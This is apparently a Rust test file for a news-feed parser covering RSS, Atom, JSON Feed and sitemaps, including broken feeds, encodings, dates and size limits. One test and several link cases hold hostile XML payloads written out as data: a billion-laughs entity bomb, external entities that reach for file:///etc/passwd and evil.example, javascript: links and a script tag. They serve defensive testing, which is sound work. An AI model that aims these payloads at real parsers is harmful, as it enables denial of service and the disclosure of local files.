//! Feeds as they come: each kind, each way to be broken, each attack.

use super::{Feed, FeedKind, is_feed, read_feed};
use crate::Limits;
use jiff::Timestamp;
use record::FaultKind;

const URL: &str = "https://courier.example/news/feed.xml";

fn now() -> Timestamp {
    "2024-06-20T12:00:00Z".parse().unwrap()
}

fn read(body: impl AsRef<[u8]>) -> Feed {
    read_feed(body.as_ref(), URL, None, now(), &Limits::default())
}

/// `id|link|title|day|instant|text or summary` for each entry, then the kinds of faults.
fn told(feed: &Feed) -> (Vec<String>, Vec<FaultKind>) {
    let or = |text: Option<String>| text.unwrap_or_else(|| "-".to_owned());
    let entries = feed.entries.iter().map(|entry| {
        [
            or(entry.id.clone()),
            or(entry.link.clone().map(|link| link.replace("https://courier.example/", "~/"))),
            or(entry.title.clone()),
            or(entry.published.map(|day| day.to_string())),
            or(entry.at.map(|at| at.to_string())),
            or(entry.text.clone().or(entry.summary.clone()).map(|text| text.replace('\n', " / "))),
        ]
        .join("|")
    });
    (entries.collect(), feed.faults.iter().map(|fault| fault.kind).collect())
}

#[track_caller]
fn check(name: &str, body: impl AsRef<[u8]>, entries: &[&str], faults: &[FaultKind]) {
    let feed = read(body);
    assert_eq!(
        told(&feed),
        (entries.iter().map(|line| (*line).to_owned()).collect(), faults.to_vec()),
        "{name}: {:?}",
        feed.faults
    );
}

const STORY: &str = "7|~/a|Plot foiled|2024-06-18|2024-06-18T18:04:00Z|Police said so.";

#[test]
fn each_kind_of_feed_says_the_same() {
    let date = "Tue, 18 Jun 2024 21:04:00 +0300";
    let iso = "2024-06-18T21:04:00+03:00";
    let table: Vec<(&str, FeedKind, String)> = vec![
        (
            "rss 2.0",
            FeedKind::Rss,
            format!(
                "<?xml version='1.0'?><rss version='2.0'><channel><title>Courier</title><link>/</link><language>en</language><item><guid isPermaLink='false'>7</guid><link>/a</link><title>Plot foiled</title><pubDate>{date}</pubDate><description>Police said so.</description></item></channel></rss>"
            ),
        ),
        (
            "rss 0.91",
            FeedKind::Rss,
            format!(
                "<!DOCTYPE rss PUBLIC '-//Netscape Communications//DTD RSS 0.91//EN' 'http://evil.example/rss.dtd'><rss version='0.91'><channel><title>Courier</title><link>/</link><language>en</language><item><title>Plot foiled</title><link>/a</link><guid>7</guid><description>Police said so.</description><pubDate>{date}</pubDate></item></channel></rss>"
            ),
        ),
        (
            "rss 1.0",
            FeedKind::Rss,
            format!(
                "<rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#' xmlns='http://purl.org/rss/1.0/' xmlns:d='http://purl.org/dc/elements/1.1/'><channel rdf:about='/'><title>Courier</title><link>/</link><language>en</language></channel><item rdf:about='/a'><title>Plot foiled</title><guid>7</guid><d:date>{iso}</d:date><description>Police said so.</description></item></rdf:RDF>"
            ),
        ),
        (
            "atom 1.0",
            FeedKind::Atom,
            format!(
                "<feed xmlns='http://www.w3.org/2005/Atom' xml:lang='en'><title>Courier</title><link rel='self' href='/feed'/><link href='/'/><entry><id>7</id><link rel='enclosure' href='/x.mp3'/><link rel='alternate' href='/a'/><title>Plot foiled</title><published>{iso}</published><updated>2024-06-19T00:00:00Z</updated><author><name>Desk</name></author><summary>Police said so.</summary></entry></feed>"
            ),
        ),
        (
            "atom with a prefix and xhtml",
            FeedKind::Atom,
            format!(
                "<a:feed xmlns:a='http://www.w3.org/2005/Atom' xml:lang='en'><a:title>Courier</a:title><a:link href='/'/><a:entry><a:id>7</a:id><a:link href='/a'/><a:title type='html'>Plot &lt;b>foiled&lt;/b></a:title><a:updated>{iso}</a:updated><a:content type='xhtml'><div xmlns='http://www.w3.org/1999/xhtml'><p>Police <i>said</i> so.</p></div></a:content></a:entry></a:feed>"
            ),
        ),
        (
            "atom 0.3",
            FeedKind::Atom,
            format!(
                "<feed version='0.3' xmlns='http://purl.org/atom/ns#' xml:lang='en'><title>Courier</title><link rel='alternate' href='/'/><entry><id>7</id><title>Plot foiled</title><link rel='alternate' href='/a'/><issued>{iso}</issued><summary>Police said so.</summary></entry></feed>"
            ),
        ),
        (
            "json feed",
            FeedKind::Json,
            format!(
                r#"{{"version":"https://jsonfeed.org/version/1.1","title":"Courier","home_page_url":"/","language":"en","items":[{{"id":7,"url":"/a","title":"Plot foiled","date_published":"{iso}","content_html":"<p>Police <b>said</b> so.</p>"}}]}}"#
            ),
        ),
    ];
    for (name, kind, body) in table {
        assert!(is_feed(body.as_bytes()), "{name}");
        check(name, &body, &[STORY], &[]);
        let feed = read(&body);
        assert_eq!(feed.kind, kind, "{name}");
        assert_eq!((feed.title.as_deref(), feed.language.as_deref()), (Some("Courier"), Some("en")), "{name}");
        assert_eq!(feed.site.as_deref(), Some("https://courier.example/"), "{name}");
    }
}

fn items(inner: &str) -> String {
    format!("<rss xmlns:media='http://search.yahoo.com/mrss/'><channel>{inner}</channel></rss>")
}

#[test]
fn what_an_entry_may_hold() {
    let table = [
        (
            "full text beats the teaser",
            "<item><title>A</title><description>Short.</description><content:encoded><![CDATA[<p>One.</p><p>Two.</p>]]></content:encoded></item>",
            "-|-|A|-|-|One. / Two.",
        ),
        (
            "html in titles",
            "<item><title>Plot &lt;em&gt;foiled&lt;/em&gt; &amp;amp; more</title></item>",
            "-|-|Plot foiled & more|-|-|-",
        ),
        ("cdata in titles", "<item><title><![CDATA[Plot <b>foiled</b>]]></title></item>", "-|-|Plot foiled|-|-|-"),
        ("raw markup in titles", "<item><title>Plot <b>foiled</b> again</title></item>", "-|-|Plot foiled again|-|-|-"),
        ("a script in a title", "<item><title>&lt;script>alert(1)&lt;/script>Plot</title></item>", "-|-|Plot|-|-|-"),
        (
            "media titles are not the headline",
            "<item><media:content><media:title>Photo</media:title></media:content><title>A</title></item>",
            "-|-|A|-|-|-",
        ),
        (
            "an undeclared namespace",
            "<item><title>A</title><dc:date>2024-06-18</dc:date></item>",
            "-|-|A|2024-06-18|-|-",
        ),
        (
            "an address as guid",
            "<item><title>A</title><guid>https://courier.example/g</guid></item>",
            "https://courier.example/g|~/g|A|-|-|-",
        ),
        (
            "no address as guid",
            "<item><title>A</title><guid isPermaLink='false'>https://courier.example/g</guid></item>",
            "https://courier.example/g|-|A|-|-|-",
        ),
        (
            "relative to the feed",
            "<item><title>A</title><link>a?b=1&amp;c=2</link></item>",
            "-|~/news/a?b=1&c=2|A|-|-|-",
        ),
        (
            "relative to xml:base",
            "<item xml:base='https://courier.example/x/'><title>A</title><link>a</link></item>",
            "-|~/x/a|A|-|-|-",
        ),
        ("a dangling ampersand", "<item><title>A</title><link>/a?b=1&c=2</link></item>", "-|~/a?b=1&c=2|A|-|-|-"),
        ("no script as a link", "<item><title>A</title><link>javascript:alert(1)</link></item>", "-|-|A|-|-|-"),
        ("no file as a link", "<item><title>A</title><link>file:///etc/passwd</link></item>", "-|-|A|-|-|-"),
        (
            "a proxy's link and the true one",
            "<item><title>A</title><link>https://p.example/~r/1</link><feedburner:origLink>/a</feedburner:origLink></item>",
            "-|~/a|A|-|-|-",
        ),
        ("a less-than sign in words", "<item><title>5 < 6</title><link>/a</link></item>", "-|~/a|5 < 6|-|-|-"),
        ("a title left open", "<item><title>A<link>/a</link></item>", "-|~/a|A|-|-|-"),
        (
            "markup in a description",
            "<item><title>A</title><description><p>One <b>two</b></p><p>three</p></description></item>",
            "-|-|A|-|-|One two / three",
        ),
        (
            "escaped twice",
            "<item><title>A</title><description>&amp;lt;p&amp;gt;One.&amp;lt;/p&amp;gt;</description></item>",
            "-|-|A|-|-|One.",
        ),
    ];
    for (name, inner, expected) in table {
        check(name, items(inner), &[expected], &[]);
    }
}

#[test]
fn broken_feeds_give_what_they_can_and_a_fault() {
    use FaultKind::{Date, Encoding, Malformed, Truncated};
    let good = "<item><title>A</title><link>/a</link></item>";
    type Case<'a> = (&'a str, Vec<u8>, &'a [&'a str], &'a [FaultKind]);
    let table: Vec<Case<'_>> = vec![
        ("cut in an entry", format!("<rss><channel>{good}<item><title>B</title><link>/b</link><descr").into(), &["-|~/a|A|-|-|-", "-|~/b|B|-|-|-"], &[Malformed]),
        ("cut in a link", format!("<rss><channel>{good}<item><title>B</title><link>/b-and-mo").into(), &["-|~/a|A|-|-|-", "-|-|B|-|-|-"], &[Truncated]),
        ("items never closed", "<rss><channel><item><title>A</title><item><title>B</title></channel></rss>".into(), &["-|-|A|-|-|-", "-|-|B|-|-|-"], &[]),
        ("crossed ends", "<rss><channel><item><title>A</item></title><item><title>B</title></item></channel></rss>".into(), &["-|-|A|-|-|-", "-|-|B|-|-|-"], &[]),
        ("an error in the middle", items(&format!("{good}<item><title>B</title><!-- x -- y <link>/b</link></item>{good}")).into(), &["-|~/a|A|-|-|-", "-|-|B|-|-|-", "-|~/a|A|-|-|-"], &[Malformed]),
        ("an unknown entity", items("<item><title>A &writer; B</title></item>").into(), &["-|-|A &writer; B|-|-|-"], &[Malformed]),
        ("no feed", b"<html><body>Not found</body></html>".into(), &[], &[Malformed]),
        ("nothing", b"".into(), &[], &[Malformed]),
        ("an empty entry", items("<item></item>").into(), &[], &[Malformed]),
        ("latin 1 called UTF-8", b"<?xml version='1.0' encoding='utf-8'?><rss><channel><item><title>caf\xe9</title></item></channel></rss>".into(), &["-|-|caf\u{fffd}|-|-|-"], &[Encoding]),
        ("UTF-8 called latin 1", "<?xml version='1.0' encoding='iso-8859-1'?><rss><channel><item><title>café</title></item></channel></rss>".into(), &["-|-|café|-|-|-"], &[]),
        ("windows-1251", b"<?xml version='1.0' encoding='windows-1251'?><rss><channel><item><title>\xcf\xee\xeb</title></item></channel></rss>".into(), &["-|-|Пол|-|-|-"], &[]),
        ("UTF-16", "\u{feff}<rss><channel><item><title>é</title></item></channel></rss>".encode_utf16().flat_map(u16::to_le_bytes).collect(), &["-|-|é|-|-|-"], &[]),
        ("control characters", items("<item><title>A\u{1}B\u{0}</title></item>").into(), &["-|-|AB|-|-|-"], &[]),
        ("junk before", format!("\n \u{feff}<?xml version='1.0'?>{}", items(good)).into(), &["-|~/a|A|-|-|-"], &[]),
        ("no date", items("<item><title>A</title><pubDate>soon</pubDate></item>").into(), &["-|-|A|-|-|-"], &[Date]),
        ("a date that cannot be", items("<item><title>A</title><pubDate>Tue, 31 Feb 2024 10:00:00 GMT</pubDate></item>").into(), &["-|-|A|-|-|-"], &[Date]),
        ("a date to come", items("<item><title>A</title><pubDate>2031-01-01T00:00:00Z</pubDate></item>").into(), &["-|-|A|-|-|-"], &[Date]),
        ("cut JSON", br#"{"version":"https://jsonfeed.org/version/1","items":[{"id":"1","url":"/a","title":"A"},{"id":"2","ur"#.into(), &["1|~/a|A|-|-|-"], &[Truncated]),
        ("odd JSON", br#"{"items":[7,null,{"title":"A"},{}]}"#.into(), &["-|-|A|-|-|-"], &[]),
    ];
    for (name, body, entries, faults) in table {
        check(name, body, entries, faults);
    }
}

#[test]
fn an_entry_keeps_its_own_markup() {
    let raws = |body: &str| read(body).entries.into_iter().map(|entry| entry.raw).collect::<Vec<_>>();
    let (one, two) = ("<item a='1'><title>A &amp; é</title></item>", "<item><title>B</title></item>");
    assert_eq!(raws(&items(&format!("<title>x</title>{one} {two}"))), [one, two]);
    assert_eq!(
        raws(&items("<item><title>A</title><item><title>B</title>")),
        ["<item><title>A</title>", "<item><title>B</title></channel>"]
    );
    assert_eq!(raws(r#"{"items": [{"title": "A"}]}"#), [r#"{"title":"A"}"#]);
}

#[test]
fn the_order_of_day_and_month_is_a_feeds_own() {
    let feed = |dates: &[&str]| {
        let inner: String =
            dates.iter().map(|date| format!("<item><title>A</title><pubDate>{date}</pubDate></item>")).collect();
        let feed = read(items(&inner));
        let days: Vec<String> = feed.entries.iter().filter_map(|entry| Some(entry.published?.to_string())).collect();
        (days.join(" "), feed.faults.len())
    };
    // Day first unless the feed's own dates, or the calendar, say otherwise.
    assert_eq!(feed(&["05/03/2024"]), ("2024-03-05".to_owned(), 1));
    assert_eq!(feed(&["05/03/2024", "05/28/2024"]), ("2024-05-03 2024-05-28".to_owned(), 0));
    assert_eq!(feed(&["05/12/2024"]), ("2024-05-12".to_owned(), 0));
    let said = items("<item><title>A</title><link>/2016/12/01/five-ways</link><pubDate>12/1/16</pubDate></item>");
    assert_eq!(read(said).entries[0].published, Some(jiff::civil::date(2016, 12, 1)));
}

#[test]
fn attacks_cost_nothing_and_reach_nothing() {
    let laughs: String =
        (1..20).map(|n| format!("<!ENTITY l{n} \"{}\">", format!("&l{};", n - 1).repeat(10))).collect();
    let bomb = format!("<!DOCTYPE rss [<!ENTITY l0 \"ha\">{laughs}]>{}", items("<item><title>A &l19;</title></item>"));
    check("entity expansion", bomb, &["-|-|A &l19;|-|-|-"], &[FaultKind::Malformed]);
    let outside = format!(
        "<!DOCTYPE rss [<!ENTITY x SYSTEM 'file:///etc/passwd'><!ENTITY % y SYSTEM 'http://evil.example/y'>%y;]>{}",
        items("<item><title>A &x;</title></item>")
    );
    check("external entities", outside, &["-|-|A &x;|-|-|-"], &[FaultKind::Malformed]);
    let deep = items(&format!("<item><title>A</title></item>{}", "<x>".repeat(100_000)));
    check("deep nesting", deep, &["-|-|A|-|-|-"], &[FaultKind::TooDeep]);
    let inside =
        items(&format!("<item><title>A</title><description>{}</description></item>", "&lt;div&gt;".repeat(100_000)));
    check("deep nesting of escaped markup", inside, &["-|-|A|-|-|-"], &[]);
    let wide = format!(
        "<rss><channel><item {}><title>A</title></item></channel></rss>",
        (0..50_000).map(|n| format!("a{n}='x' ")).collect::<String>()
    );
    check("many attributes", wide, &["-|-|A|-|-|-"], &[]);
    let breaks = items(&"<item><title>A</title><!-- -- </item>".repeat(2_000));
    assert!(read(breaks).faults.len() < 500);
}

#[test]
fn feeds_without_end_are_cut() {
    let limits = Limits { feed_bytes: 4_000, feed_entries: 3, text_bytes: 10, ..Limits::default() };
    let read = |body: String| read_feed(body.as_bytes(), URL, None, now(), &limits);
    let many = read(items(&"<item><title>A</title></item>".repeat(100)));
    assert_eq!((many.entries.len(), many.faults[0].kind), (3, FaultKind::TooLarge));
    let long = read(items(&format!("<item><title>A</title></item>{}", " ".repeat(10_000))));
    assert_eq!((long.entries.len(), long.faults[0].kind), (1, FaultKind::TooLarge));
    let text = read(items("<item><title>A</title><description>0123456789abc</description></item>"));
    assert_eq!(text.entries[0].summary.as_deref(), Some("0123456789"));
    let json = read(format!(
        r#"{{"version":"https://jsonfeed.org/version/1","items":[{}]}}"#,
        [r#"{"title":"A"}"#; 9].join(",")
    ));
    assert_eq!((json.entries.len(), json.faults[0].kind), (3, FaultKind::TooLarge));
}

#[test]
fn sitemaps_and_what_feeds_say_of_themselves() {
    let news = "<urlset xmlns='http://www.sitemaps.org/schemas/sitemap/0.9' xmlns:n='http://www.google.com/schemas/sitemap-news/0.9'>\
        <url><loc>https://courier.example/a</loc><lastmod>2024-06-19T10:00:00Z</lastmod><n:news><n:publication><n:name>The Courier</n:name><n:language>en</n:language></n:publication>\
        <n:publication_date>2024-06-18T18:04:00Z</n:publication_date><n:title>Plot foiled</n:title></n:news></url></urlset>";
    check("news sitemap", news, &["-|~/a|Plot foiled|2024-06-18|2024-06-18T18:04:00Z|-"], &[]);
    let feed = read(news);
    assert_eq!((feed.kind, feed.entries[0].outlet.as_deref()), (FeedKind::Sitemap, Some("The Courier")));
    assert_eq!(feed.entries[0].updated, Some("2024-06-19T10:00:00Z".parse().unwrap()));
    let index = read("<sitemapindex><sitemap><loc>/s1.xml</loc></sitemap></sitemapindex>");
    assert_eq!(
        (index.kind, index.entries[0].link.as_deref()),
        (FeedKind::SitemapIndex, Some("https://courier.example/s1.xml"))
    );
    let every = |inner: &str| read(items(&format!("{inner}<item><title>A</title></item>"))).every_minutes;
    assert_eq!(every("<ttl>30</ttl>"), Some(30));
    assert_eq!(every("<sy:updatePeriod>hourly</sy:updatePeriod><sy:updateFrequency>4</sy:updateFrequency>"), Some(15));
    let gone = read(
        "<feed xmlns='http://www.w3.org/2005/Atom' xmlns:t='http://purl.org/atompub/tombstones/1.0'><t:deleted-entry ref='7' when='2024-06-19T00:00:00Z'/></feed>",
    );
    assert_eq!(gone.deleted, ["7"]);
    for page in ["<html><body><rss></body></html>", "<!DOCTYPE html><html>", "plain text", "{\"a\": 1}", ""] {
        assert!(!is_feed(page.as_bytes()), "{page}");
    }
}
